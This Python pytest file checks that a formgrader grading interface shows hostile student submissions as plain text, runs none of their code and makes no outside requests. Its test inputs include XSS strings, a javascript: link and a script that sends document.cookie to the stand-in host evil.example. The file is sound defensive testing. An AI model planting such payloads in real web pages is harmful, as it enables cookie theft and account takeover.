"""真的 formgrader，开在真的成绩库上：看得见答卷，批得了书面题；学生写的东西一句也跑不起来，页面不向外要任何东西。"""

from __future__ import annotations

import csv
import json
import os
import re
import sqlite3
import subprocess
import urllib.request
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import NamedTuple

import pytest
from tests.grading.hostility import CHEATS, Cheat, cheat

from sockscope.grading.__main__ import main
from sockscope.grading.course import gradebook
from sockscope.grading.course.course import Course
from sockscope.grading.course.formgrader import command, environment
from sockscope.grading.course.mishaps import FORMS
from sockscope.grading.course.names import escape
from sockscope.grading.course.sample import filled, form
from sockscope.grading.course.source import model
from sockscope.grading.exam.lab import find_lab
from sockscope.grading.exam.student import Answers
from sockscope.grading.jail.sandbox import refusal

LAB = find_lab("lab05")
EVIL = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>"
GOOD, SCRIPT, TOUCHING = "好学生", "<script>window.pwned=1<_script>", "markup_8"
NAMED = escape(SCRIPT)


class Desk(NamedTuple):
    """一门课，和开在它上面的 formgrader；``canary`` 是学生的代码一旦运行就会写下的文件。"""

    course: Course
    base: str
    token: str
    canary: Path

    def at(self, path: str) -> str:
        """先登录，再到那一页：从 formgrader 自己的页面登录，得到的 cookie 在别的页面不算数。"""
        return f"{self.base}login?next=/formgrader/{path}&token={self.token}"


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Course:
    """发布了 lab05，收了三份：好的；名字和书面题里写着脚本的；代码和打印里写着脚本、还想在这台机器上留个文件的。"""
    if why := refusal():
        (pytest.fail if os.environ.get("CI") else pytest.skip)(why)
    root = tmp_path_factory.mktemp("class")
    markup = next(c for c in CHEATS if c.name == "markup")
    code = f"{markup.code}\nTOUCHED = open({str(root / 'canary')!r}, 'w')\nMORE = {EVIL!r}"
    touch = cheat(LAB, Cheat("touch", "在教师的机器上留个文件", code))
    papers = {GOOD: book(model(LAB)), SCRIPT: form(LAB, find_form("script-in-answer")),
              TOUCHING: book(touch, EVIL)}
    for student, data in papers.items():
        (root / "inbox" / student).mkdir(parents=True)
        (root / "inbox" / student / "lab05.ipynb").write_bytes(data)
    made = Course(root / "course")
    for words in (["release", "lab05"], ["collect", "lab05", str(root / "inbox")],
                  ["grade", "lab05", "--only", "half_close", "--workers", "1"]):
        assert main(["--course", str(made.root), *words]) == 0
    return made


def book(answers: Answers, written: str = "因为 `close()` 关掉了两个方向。") -> bytes:
    return json.dumps(filled(LAB, answers, written)).encode()


def find_form(name: str):
    return next(f for f in FORMS if f.name == name)


@pytest.fixture(scope="module")
def desk(course) -> Iterator[Desk]:
    """教师的那条命令，换一个空着的端口，不替他打开浏览器。"""
    options = command("--no-browser", "--ServerApp.port=0", "--ServerApp.ip=127.0.0.1")
    with subprocess.Popen(options, cwd=course.root, env=environment(), stderr=subprocess.PIPE, text=True) as server:
        found = next(m for line in server.stderr if (m := re.search(r"(http://127\.\S+/)lab\?token=(\w+)", line)))
        with open(os.devnull, "w") as nowhere, subprocess.Popen(["cat"], stdin=server.stderr, stdout=nowhere) as drain:
            yield Desk(course, found[1], found[2], course.root.parent / "canary")
            server.kill()
            drain.wait()


@pytest.fixture
def look(desk, visit):
    """打开 formgrader 的一页；看完之后，学生写的东西一句也没有跑过，页面没有向外要过东西。"""
    opened = []

    def see(path: str):
        seen = visit(desk.at(path))
        opened.append(seen)
        seen.page.on("dialog", lambda dialog: (seen.errors.append(f"对话框：{dialog.message}"), dialog.dismiss()))
        return seen.page

    yield see
    for seen in opened:
        assert seen.page.evaluate("window.pwned") is None
        assert seen.outside(desk.base) == []
        assert seen.errors == []
    assert not desk.canary.exists()


def named(page):
    """名单载入之后，显出全部名字。"""
    page.locator("#main-table td.name").first.wait_for()
    page.locator("#toggle_names").click()
    return page


def submission(look, student: str):
    """从名单点进一个学生的答卷。"""
    page = named(look("gradebook/lab05/lab05"))
    page.get_by_role("link", name=student, exact=True).click()
    page.locator("#why").wait_for()
    page.wait_for_load_state("networkidle")
    return page


def test_a_stranger_is_not_let_in(desk, visit):
    assert "/login" in visit(f"{desk.base}formgrader/gradebook").page.url


def test_the_list_shows_every_student(look):
    page = named(look("gradebook/lab05/lab05"))
    assert sorted(page.locator("#main-table a.name-shown").all_inner_texts()) == sorted([GOOD, NAMED, TOUCHING])


def test_points_and_a_comment_reach_the_grade_book(desk, look):
    page = submission(look, GOOD)
    assert "因为 `close()` 关掉了两个方向。" in page.locator(".nbgrader_cell", has=page.locator("#why")).inner_text()
    saved = {"/api/grade/": ("#why", "2.5"), "/api/comment/": ("#why-comment", "再说说 RST。")}
    for path, (field, value) in saved.items():
        with page.expect_response(lambda r, path=path: path in r.url and r.request.method == "PUT") as answer:
            page.locator(field).fill(value)
            page.locator(field).press("Tab")
        assert answer.value.ok
    assert gradebook.manual_scores(desk.course, LAB)[GOOD]["why"] == 2.5
    with closing(sqlite3.connect(desk.course.root / "gradebook.db")) as db:
        assert ("再说说 RST。",) in db.execute("select manual_comment from comment").fetchall()
    assert main(["--course", str(desk.course.root), "export", "lab05"]) == 0
    sheet = (desk.course.root / "export" / "lab05" / "spreadsheet.csv").read_text("utf-8-sig")
    rows = {row["学生"]: row for row in csv.DictReader(sheet.splitlines())}
    assert [rows[GOOD][name] for name in ("自动分", "why", "总分")] == ["2", "2.5", "4.5"]
    assert rows[TOUCHING]["总分"] == "", "还没有看的，总分留空"


@pytest.mark.parametrize(("student", "words"), [
    (NAMED, ["<script>fetch('//evil.example/'+document.cookie)</script>", "[点我](javascript:alert(1))"]),
    (TOUCHING, [EVIL, "<script>alert(document.cookie)</script>", "你的程序打印了"])], ids=["written", "code"])
def test_what_students_write_is_shown_as_text(look, student, words):
    page = submission(look, student)
    notebook = page.locator("#notebook-container").first  # nbgrader 的模板把它套了两层
    shown = notebook.inner_text()
    assert [word for word in words if word not in shown] == []
    assert notebook.locator("script, img, iframe, a[href^='javascript']").count() == 0


def test_the_autograde_button_runs_nothing(desk, look):
    before = gradebook.scores(desk.course, LAB)
    paper = desk.course.root / "autograded" / TOUCHING / "lab05" / "lab05.ipynb"
    text = json.loads(paper.read_text())
    page = look("manage_submissions/lab05")
    row = page.locator("#main-table tr", has_text=TOUCHING)
    row.locator(".autograde a").wait_for()
    with page.expect_response(lambda r: r.url.endswith("/autograde"), timeout=120_000) as answer:
        row.locator(".autograde a").click()
    assert answer.value.json()["success"], answer.value.text()
    assert gradebook.scores(desk.course, LAB) == before
    assert [c["source"] for c in json.loads(paper.read_text())["cells"]] == \
        [c["source"] if isinstance(c["source"], list) else c["source"].splitlines(True) for c in text["cells"]]


def test_the_server_has_no_kernel_to_run_a_submission_in(desk):
    asked = urllib.request.Request(f"{desk.base}api/kernelspecs", headers={"Authorization": f"token {desk.token}"})
    with urllib.request.urlopen(asked) as answer:
        assert json.load(answer)["kernelspecs"] == {}
